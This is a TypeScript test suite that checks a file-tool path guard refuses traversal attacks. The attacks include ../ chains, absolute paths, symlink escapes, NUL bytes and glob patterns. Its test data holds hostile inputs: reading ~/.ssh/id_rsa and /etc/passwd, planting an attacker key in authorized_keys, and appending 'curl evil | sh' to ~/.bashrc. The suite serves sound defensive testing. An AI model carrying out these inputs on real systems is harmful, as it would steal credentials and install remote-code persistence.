import { symlink, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { fileTools } from "../../src/tools/filesystem.js";
import { PathGuard } from "../../src/tools/paths.js";
import { makeSandbox, runTool, type Sandbox } from "../support/sandbox.js";

/**
 * Path traversal through the file tools. Every attack must be refused with a message naming the
 * path (or pattern) it was given, and must leave everything outside the workspace as it was.
 */

let box: Sandbox;
let before: string;
const savedHome = process.env.HOME;

beforeEach(async () => {
  box = await makeSandbox();
  // "~" resolves through HOME: point it at the sentinel's fake home, so an escape there would show in the snapshot.
  process.env.HOME = box.home;
  const ws = box.workspace;
  await writeFile(join(ws, "ok.txt"), "harmless\n");
  await symlink("../outside/secret.txt", join(ws, "link-out.txt"));
  await symlink("hop2", join(ws, "hop1"));
  await symlink(join(box.outside, "secret.txt"), join(ws, "hop2"));
  await symlink("../outside/created-by-attack.txt", join(ws, "dangling-out"));
  await symlink("../outside/nested", join(ws, "dir-out"));
  await symlink("../outside/new-dir", join(ws, "dangling-dir-out"));
  await symlink(box.home, join(ws, "home-link"));
  before = await box.snapshot();
});

afterEach(async () => {
  process.env.HOME = savedHome;
  expect(await box.snapshot()).toBe(before);
});

const outside = (path: string) => `refused: ${JSON.stringify(path)} is outside the workspace (${box.workspace})`;
const badPattern = (pattern: string) => `refused: the pattern ${JSON.stringify(pattern)} reaches outside the search folder`;

interface Attack {
  name: string;
  tool: "read_file" | "write_file" | "edit_file" | "list_dir" | "file_search";
  args: () => Record<string, unknown>;
  refusal: () => string;
}

const LONG_CHAIN = "../".repeat(300) + "etc/passwd";

const attacks: Attack[] = [
  // Plain traversal
  {
    name: "read ../ into the sentinel",
    tool: "read_file",
    args: () => ({ path: "../outside/secret.txt" }),
    refusal: () => outside("../outside/secret.txt"),
  },
  {
    name: "read ../ hidden behind a folder",
    tool: "read_file",
    args: () => ({ path: "sub/../../outside/secret.txt" }),
    refusal: () => outside("sub/../../outside/secret.txt"),
  },
  {
    name: "overwrite through ../",
    tool: "write_file",
    args: () => ({ path: "../outside/secret.txt", content: "pwned" }),
    refusal: () => outside("../outside/secret.txt"),
  },
  {
    name: "create a file next to the workspace",
    tool: "write_file",
    args: () => ({ path: "../evil.txt", content: "pwned" }),
    refusal: () => outside("../evil.txt"),
  },
  {
    name: "create nested folders outside",
    tool: "write_file",
    args: () => ({ path: "a/b/../../../outside/x/y.txt", content: "pwned" }),
    refusal: () => outside("a/b/../../../outside/x/y.txt"),
  },
  {
    name: "edit through ../",
    tool: "edit_file",
    args: () => ({ path: "../outside/secret.txt", old_text: "TOP", new_text: "NO" }),
    refusal: () => outside("../outside/secret.txt"),
  },
  { name: "list the parent folder", tool: "list_dir", args: () => ({ path: ".." }), refusal: () => outside("..") },
  {
    name: "read a very long ../ chain to /etc/passwd",
    tool: "read_file",
    args: () => ({ path: LONG_CHAIN }),
    refusal: () => 'refused: "../../../../',
  },
  // Aimed back into the sandbox, so an escape would show in the snapshot.
  {
    name: "write a very long ../ chain",
    tool: "write_file",
    args: () => ({ path: "../".repeat(300) + box.root.slice(1) + "/evil.txt", content: "x" }),
    refusal: () => 'evil.txt" is outside the workspace',
  },
  // Absolute paths
  { name: "read /etc/passwd", tool: "read_file", args: () => ({ path: "/etc/passwd" }), refusal: () => outside("/etc/passwd") },
  {
    name: "read the sentinel by absolute path",
    tool: "read_file",
    args: () => ({ path: join(box.outside, "secret.txt") }),
    refusal: () => outside(join(box.outside, "secret.txt")),
  },
  {
    name: "write the sentinel by absolute path",
    tool: "write_file",
    args: () => ({ path: join(box.outside, "new.txt"), content: "x" }),
    refusal: () => outside(join(box.outside, "new.txt")),
  },
  {
    name: "append to the sentinel by absolute path",
    tool: "write_file",
    args: () => ({ path: join(box.outside, "secret.txt"), content: "x", mode: "append" }),
    refusal: () => outside(join(box.outside, "secret.txt")),
  },
  { name: "list /", tool: "list_dir", args: () => ({ path: "/" }), refusal: () => outside("/") },
  { name: "list the sentinel", tool: "list_dir", args: () => ({ path: box.outside }), refusal: () => outside(box.outside) },
  // Home folder
  { name: "read ~/.ssh/id_rsa", tool: "read_file", args: () => ({ path: "~/.ssh/id_rsa" }), refusal: () => outside("~/.ssh/id_rsa") },
  {
    name: "write ~/.ssh/authorized_keys",
    tool: "write_file",
    args: () => ({ path: "~/.ssh/authorized_keys", content: "ssh-ed25519 AAAA attacker" }),
    refusal: () => outside("~/.ssh/authorized_keys"),
  },
  {
    name: "append to ~/.bashrc",
    tool: "write_file",
    args: () => ({ path: "~/.bashrc", content: "curl evil | sh\n", mode: "append" }),
    refusal: () => outside("~/.bashrc"),
  },
  { name: "list ~", tool: "list_dir", args: () => ({ path: "~" }), refusal: () => outside("~") },
  // Symlinks planted in the workspace
  {
    name: "read through a symlink pointing out",
    tool: "read_file",
    args: () => ({ path: "link-out.txt" }),
    refusal: () => outside("link-out.txt"),
  },
  {
    name: "write through a symlink pointing out",
    tool: "write_file",
    args: () => ({ path: "link-out.txt", content: "pwned" }),
    refusal: () => outside("link-out.txt"),
  },
  {
    name: "edit through a symlink pointing out",
    tool: "edit_file",
    args: () => ({ path: "link-out.txt", start_line: 1, new_text: "pwned" }),
    refusal: () => outside("link-out.txt"),
  },
  { name: "read through two hops of symlinks", tool: "read_file", args: () => ({ path: "hop1" }), refusal: () => outside("hop1") },
  {
    name: "write through a dangling symlink pointing out",
    tool: "write_file",
    args: () => ({ path: "dangling-out", content: "pwned" }),
    refusal: () => outside("dangling-out"),
  },
  {
    name: "append through a dangling symlink pointing out",
    tool: "write_file",
    args: () => ({ path: "dangling-out", content: "pwned", mode: "append" }),
    refusal: () => outside("dangling-out"),
  },
  {
    name: "create a folder through a dangling folder symlink",
    tool: "write_file",
    args: () => ({ path: "dangling-dir-out/sub/x.txt", content: "pwned" }),
    refusal: () => outside("dangling-dir-out/sub/x.txt"),
  },
  {
    name: "read in a symlinked folder pointing out",
    tool: "read_file",
    args: () => ({ path: "dir-out/deep.txt" }),
    refusal: () => outside("dir-out/deep.txt"),
  },
  {
    name: "write in a symlinked folder pointing out",
    tool: "write_file",
    args: () => ({ path: "dir-out/planted.txt", content: "pwned" }),
    refusal: () => outside("dir-out/planted.txt"),
  },
  { name: "list a symlinked folder pointing out", tool: "list_dir", args: () => ({ path: "dir-out" }), refusal: () => outside("dir-out") },
  {
    name: "write into the home folder through a folder symlink",
    tool: "write_file",
    args: () => ({ path: "home-link/.ssh/authorized_keys", content: "x" }),
    refusal: () => outside("home-link/.ssh/authorized_keys"),
  },
  // NUL bytes
  {
    name: "read a path with a NUL byte",
    tool: "read_file",
    args: () => ({ path: "ok.txt\0../../outside/secret.txt" }),
    refusal: () => 'refused: "ok.txt\\u0000../../outside/secret.txt" contains a NUL byte',
  },
  {
    name: "write a path with a NUL byte",
    tool: "write_file",
    args: () => ({ path: "../outside/x\0.txt", content: "x" }),
    refusal: () => 'refused: "../outside/x\\u0000.txt" contains a NUL byte',
  },
  // file_search
  { name: "search with a ../** pattern", tool: "file_search", args: () => ({ pattern: "../**" }), refusal: () => badPattern("../**") },
  {
    name: "search with .. in the middle of the pattern",
    tool: "file_search",
    args: () => ({ pattern: "**/../../outside/*" }),
    refusal: () => badPattern("**/../../outside/*"),
  },
  {
    name: "search with .. inside braces",
    tool: "file_search",
    args: () => ({ pattern: "{..,src}/**" }),
    refusal: () => badPattern("{..,src}/**"),
  },
  {
    name: "search with .. assembled by brace expansion",
    tool: "file_search",
    args: () => ({ pattern: "..{,}/outside/*" }),
    refusal: () => badPattern("..{,}/outside/*"),
  },
  {
    name: "search with an absolute pattern",
    tool: "file_search",
    args: () => ({ pattern: `${box.outside}/**` }),
    refusal: () => badPattern(`${box.outside}/**`),
  },
  { name: "search with a ~ pattern", tool: "file_search", args: () => ({ pattern: "~/.ssh/*" }), refusal: () => badPattern("~/.ssh/*") },
  {
    name: "search with the parent as root",
    tool: "file_search",
    args: () => ({ pattern: "**", path: ".." }),
    refusal: () => outside(".."),
  },
  {
    name: "search with the sentinel as root",
    tool: "file_search",
    args: () => ({ pattern: "**", path: box.outside }),
    refusal: () => outside(box.outside),
  },
  {
    name: "search from a symlinked folder pointing out",
    tool: "file_search",
    args: () => ({ pattern: "*", path: "dir-out" }),
    refusal: () => outside("dir-out"),
  },
];

describe("path attacks through the file tools", () => {
  const tools = () => fileTools({ guard: new PathGuard({ workspace: box.workspace, restrictToWorkspace: true, readOnlyRoots: [] }) });

  it.each(attacks)("refuses: $name", async (attack) => {
    const error = await runTool(tools(), attack.tool, attack.args(), box.workspace).then(
      (out) => new Error(`not refused; the tool returned: ${out}`),
      (err: unknown) => err as Error,
    );
    expect(error.message).toContain(attack.refusal());
    expect(error.message).toMatch(/^refused: /);
  });

  it("reports a refused path among several in read_file without showing the secret", async () => {
    const out = await runTool(tools(), "read_file", { paths: ["ok.txt", "../outside/secret.txt", "link-out.txt"] }, box.workspace);
    expect(out).toBe(
      `==> ok.txt <==\nharmless\n\n==> ../outside/secret.txt <==\nError: ${outside("../outside/secret.txt")}\n\n==> link-out.txt <==\nError: ${outside("link-out.txt")}`,
    );
  });

  it("file_search over the whole workspace lists no symlink and nothing behind one", async () => {
    expect(await runTool(tools(), "file_search", { pattern: "**" }, box.workspace)).toBe("ok.txt");
    expect(await runTool(tools(), "file_search", { pattern: "**/*.txt", path: "." }, box.workspace)).toBe("ok.txt");
  });

  it("list_dir shows symlinks pointing out by name and target only, never their content or size", async () => {
    const out = await runTool(tools(), "list_dir", {}, box.workspace);
    expect(out).toContain("link-out.txt -> ../outside/secret.txt");
    expect(out).toContain("dir-out -> ../outside/nested");
    expect(out).not.toContain("deep.txt");
  });

  it("refuses writes to a read-only root while allowing reads from it", async () => {
    const readOnly = fileTools({
      guard: new PathGuard({ workspace: box.workspace, restrictToWorkspace: true, readOnlyRoots: [box.outside] }),
    });
    const secret = join(box.outside, "secret.txt");
    const readOnlyRefusal = `refused: ${JSON.stringify(secret)} is in a read-only folder; only the workspace (${box.workspace}) can be written`;
    expect(await runTool(readOnly, "read_file", { path: secret }, box.workspace)).toBe("TOP SECRET sentinel");
    await expect(runTool(readOnly, "write_file", { path: secret, content: "pwned" }, box.workspace)).rejects.toThrow(readOnlyRefusal);
    await expect(runTool(readOnly, "edit_file", { path: secret, old_text: "TOP", new_text: "NO" }, box.workspace)).rejects.toThrow(
      readOnlyRefusal,
    );
    await expect(runTool(readOnly, "write_file", { path: "link-out.txt", content: "pwned" }, box.workspace)).rejects.toThrow(
      `refused: "link-out.txt" is in a read-only folder`,
    );
  });
});

describe("the sentinel snapshot", () => {
  it("notices a file changed, added or removed outside the workspace, and ignores the workspace", async () => {
    const other = await makeSandbox();
    const start = await other.snapshot();
    await writeFile(join(other.workspace, "inside.txt"), "fine");
    expect(await other.snapshot()).toBe(start);
    await writeFile(join(other.outside, "secret.txt"), "TOP SECRET sentinel!\n");
    expect(await other.snapshot()).not.toBe(start);
    await writeFile(join(other.root, "stray.txt"), "");
    expect(await other.snapshot()).toContain("file stray.txt");
  });
});
